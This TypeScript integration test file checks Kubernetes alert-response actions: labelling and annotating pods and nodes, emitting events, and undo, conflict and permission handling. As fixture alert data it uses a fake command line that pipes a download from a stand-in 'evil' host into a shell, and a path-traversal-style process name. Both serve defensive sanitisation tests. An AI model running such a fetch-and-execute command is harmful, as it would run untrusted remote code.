import { expect } from '@jest/globals'
import { alertOf, callOf, planned, stored, undoing } from '../../e2e/support/calls.ts'
import { testCluster } from '../../e2e/support/test-cluster.ts'
import { needs } from '../../scripts/needs.ts'
import { entriesPatch } from '../kubernetes/map-patch.ts'
import type { KubernetesObject } from '../kubernetes/kubernetes.ts'
import { referenceTo } from '../kubernetes/objects.ts'
import { priorKey } from '../kubernetes/prior-state.ts'
import { podAlert, sampleAlert } from '../policy/alert.sample.ts'
import { annotatePod } from './annotate-pod.ts'
import { kubernetesEvent } from './kubernetes-event.ts'
import { labelNode } from './label-node.ts'
import { labelPod } from './label-pod.ts'

const test = needs('cluster')
const cluster = testCluster()

const now = (object: KubernetesObject) => cluster.kubernetes.get(referenceTo(object))

/** Somebody else changes a label. */
async function change(object: KubernetesObject, labels: Record<string, string | null>) {
  const operations = entriesPatch(await now(object), 'labels', labels)
  return cluster.kubernetes.patch(referenceTo(object), operations)
}

test('a pod is labelled, seen to be, and undo puts back exactly what was there', async () => {
  const { kubernetes } = cluster
  const pod = await cluster.runPod('labelled', { app: 'web', state: 'fine', old: 'yes' })
  const alert = alertOf(pod, { 'proc.name': '../evil name' })
  const parameters = { labels: { state: 'suspect', by: '%proc.name', old: null, 'a/b': '1' } }
  const call = callOf(labelPod, { alert, kubernetes, parameters })

  const effect = await planned(labelPod, call)
  expect((await now(pod)).metadata.resourceVersion).toBe(pod.metadata.resourceVersion)

  const { detail } = await labelPod.run(call, effect)
  expect(detail).toBe('pod default/labelled has state=suspect, by=evil_name, no old, a/b=1')
  expect(await labelPod.verify?.(call, effect)).toBe(true)
  const { labels, annotations } = (await now(pod)).metadata
  expect(labels).toEqual({ app: 'web', state: 'suspect', by: 'evil_name', 'a/b': '1' })
  expect(JSON.parse(annotations?.[priorKey('label_pod', call.stepId)] ?? '')).toEqual({
    step: call.stepId,
    prior: { state: 'fine', by: null, old: 'yes', 'a/b': null },
  })

  await labelPod.undo?.(undoing(call), effect)
  const { labels: after, annotations: left } = (await now(pod)).metadata
  expect([after, left]).toEqual([pod.metadata.labels, undefined])
})

test('what is as wanted already is left alone, and a second attempt of one step changes nothing more', async () => {
  const { kubernetes } = cluster
  const pod = await cluster.runPod('twice')
  const call = callOf(labelPod, { alert: alertOf(pod), kubernetes })
  const effect = await planned(labelPod, call)
  await labelPod.run(call, effect)
  const once = await now(pod)
  await labelPod.run(call, effect)

  expect((await now(pod)).metadata.resourceVersion).toBe(once.metadata.resourceVersion)
  expect(await labelPod.plan(call)).toMatchObject({ kind: 'already_done' })
  await labelPod.undo?.(undoing(call), effect)
  await labelPod.undo?.(undoing(call), effect)
  expect((await now(pod)).metadata.labels).toBeUndefined()
})

test('undo of a label that somebody changed since is a conflict, and leaves it', async () => {
  const { kubernetes } = cluster
  const pod = await cluster.runPod('contested', { state: 'fine' })
  const parameters = { labels: { state: 'suspect' } }
  const call = callOf(labelPod, { alert: alertOf(pod), kubernetes, parameters })
  const effect = await planned(labelPod, call)
  await labelPod.run(call, effect)
  await change(pod, { state: 'cleared' })

  await expect(labelPod.undo?.(undoing(call), effect)).rejects.toMatchObject({
    code: 'refused',
    message:
      'pod default/contested was changed since: it was {"state":"suspect"} and is {"state":"cleared"} now',
  })
  expect((await now(pod)).metadata.labels).toEqual({ state: 'cleared' })
})

test('a label that somebody changed between plan and act is not written over', async () => {
  const { kubernetes } = cluster
  const pod = await cluster.runPod('raced', { state: 'fine' })
  const parameters = { labels: { state: 'suspect' } }
  const call = callOf(labelPod, { alert: alertOf(pod), kubernetes, parameters })
  const effect = await planned(labelPod, call)
  await change(pod, { state: 'cleared' })

  await expect(labelPod.run(call, effect)).rejects.toMatchObject({ name: 'Conflict' })
})

test('what is acted on at once is not asked of the API server by dry run first, in audit it is', async () => {
  const reader = { apiGroups: [''], resources: ['pods'], verbs: ['get'] }
  const kubernetes = await cluster.withRights('reader', [reader])
  const pod = await cluster.runPod('unasked')
  const call = callOf(labelPod, { alert: alertOf(pod), kubernetes })

  await expect(labelPod.plan(call)).rejects.toMatchObject({ code: 'forbidden' })
  const effect = await planned(labelPod, { ...call, willAct: true })
  await expect(labelPod.run(call, effect)).rejects.toMatchObject({ code: 'forbidden' })
})

test('a pod that somebody changed elsewhere between plan and act is marked all the same', async () => {
  const { kubernetes } = cluster
  const pod = await cluster.runPod('busy')
  const call = callOf(labelPod, { alert: alertOf(pod), kubernetes })
  const effect = await planned(labelPod, { ...call, willAct: true })
  await change(pod, { other: 'label' })

  await labelPod.run(call, effect)
  expect((await now(pod)).metadata.labels).toEqual({
    other: 'label',
    'riposte.dev/state': 'suspect',
  })
})

test('a pod recreated under the same name is left alone by plan, act and undo', async () => {
  const { kubernetes } = cluster
  const first = await cluster.runPod('reborn')
  const call = callOf(labelPod, { alert: alertOf(first), kubernetes })
  const effect = await planned(labelPod, call)
  const second = await cluster.recreate(first)

  for (const attempt of [
    labelPod.plan(call),
    labelPod.run(call, effect),
    labelPod.undo?.(undoing(call), effect),
  ])
    await expect(attempt).rejects.toMatchObject({ code: 'target_gone' })
  expect((await now(second)).metadata.labels).toBeUndefined()
})

test('an annotation holds the whole text of a field; without any value the step is refused', async () => {
  const { kubernetes } = cluster
  const pod = await cluster.runPod('annotated')
  const text = 'curl "http://evil/" | sh\u0000\n'
  const alert = alertOf(pod, { 'proc.cmdline': text })
  const parameters = { annotations: { 'example.com/seen': '%proc.cmdline' } }
  const call = callOf(annotatePod, { alert, kubernetes, parameters })
  const effect = await planned(annotatePod, call)
  const done = await annotatePod.run(call, effect)
  expect((await now(pod)).metadata.annotations).toMatchObject({ 'example.com/seen': text })
  await annotatePod.undo?.(undoing(call), stored(done.effect))
  expect((await now(pod)).metadata.annotations).toBeUndefined()

  const missing = callOf(annotatePod, {
    alert,
    kubernetes,
    parameters: { annotations: { 'example.com/seen': '%no.such' } },
  })
  await expect(annotatePod.plan(missing)).rejects.toMatchObject({ code: 'refused' })
})

test('the API server has the last word on what a label may be, in the dry run already', async () => {
  const { kubernetes } = cluster
  const pod = await cluster.runPod('strict')
  const parameters = { labels: { 'kubernetes.io/%': 'x' } }
  expect(() => callOf(labelPod, { alert: alertOf(pod), kubernetes, parameters })).toThrow(
    'label key',
  )
  expect(labelPod.parameters.safeParse({ labels: { a: 'not a value' } }).success).toBe(false)
})

test('the node of the alert is labelled and unlabelled', async () => {
  const { kubernetes } = cluster
  const node = await cluster.createNode('marked')
  const alert = { ...sampleAlert(), node: 'marked' }
  const call = callOf(labelNode, { alert, kubernetes, parameters: { labels: { suspect: 'yes' } } })
  const effect = await planned(labelNode, call)
  await labelNode.run(call, effect)
  expect(await labelNode.verify?.(call, effect)).toBe(true)
  expect((await now(node)).metadata.labels).toMatchObject({ suspect: 'yes' })
  await labelNode.undo?.(undoing(call), effect)
  expect((await now(node)).metadata.labels).toBeUndefined()
})

test('kubectl describe shows the event on the pod, once however often the step is tried', async () => {
  const { kubernetes } = cluster
  const pod = await cluster.runPod('told')
  const call = callOf(kubernetesEvent, { alert: alertOf(pod), kubernetes })
  const effect = await planned(kubernetesEvent, call)
  await kubernetesEvent.run(call, effect)
  await kubernetesEvent.run(call, effect)

  const described = await cluster.controlPlane.kubectl(['describe', 'pod', 'told'])
  expect(described).toContain('RiposteResponse')
  expect(described).toContain(podAlert().output)
  expect(await kubernetesEvent.plan(call)).toMatchObject({ kind: 'already_done' })
  const events = await cluster.controlPlane.kubectl(['get', 'events', '-o', 'name'])
  expect(events.match(/riposte\./g)).toHaveLength(1)
})

test('an event about a node is found at the node', async () => {
  const { kubernetes } = cluster
  await cluster.createNode('eventful')
  const alert = { ...sampleAlert(), node: 'eventful' }
  const call = callOf(kubernetesEvent, { alert, kubernetes, parameters: { note: '%user.name' } })
  await kubernetesEvent.run(call, await planned(kubernetesEvent, call))
  const described = await cluster.controlPlane.kubectl(['describe', 'node', 'eventful'])
  expect(described).toContain(`${alert.rule}: mallory`)
})
